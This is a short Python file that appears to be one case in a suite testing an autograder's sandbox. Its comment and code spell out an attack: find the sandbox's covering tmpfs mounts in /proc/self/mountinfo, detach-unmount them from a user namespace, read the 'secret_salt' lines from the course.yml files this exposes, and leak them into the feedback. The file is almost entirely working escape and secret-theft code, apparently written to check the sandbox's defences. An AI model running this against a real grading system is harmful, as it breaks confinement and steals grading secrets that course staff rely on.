# attack: the sandbox's own covers taken down: in a user namespace of its own the child is root there and
# may unmount what it mounted, so the hidden folders come back (the course's, the checkout's), and the
# secret salt of every course.yml among them goes into the feedback
# cells: dbngain
# batch: walls
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
covers = []
with open('/proc/self/mountinfo') as f:
    for line in f:
        before, _, after = line.partition(' - ')
        if after.startswith('tmpfs ') and 'size=1024k' in after:
            covers.append(before.split()[4].replace('\\040', ' '))
for target in sorted(covers, key=len, reverse=True):
    libc.umount2(target.encode(), 2)  # MNT_DETACH
salts = []
for target in covers:
    path = os.path.join(target, 'course.yml')
    if os.path.exists(path):
        with open(path) as f:
            salts += [line.strip() for line in f if line.startswith('secret_salt')]
if salts:
    leak('uncovered ' + ' '.join(salts))
raise OSError(ctypes.get_errno(), 'nothing uncovered')
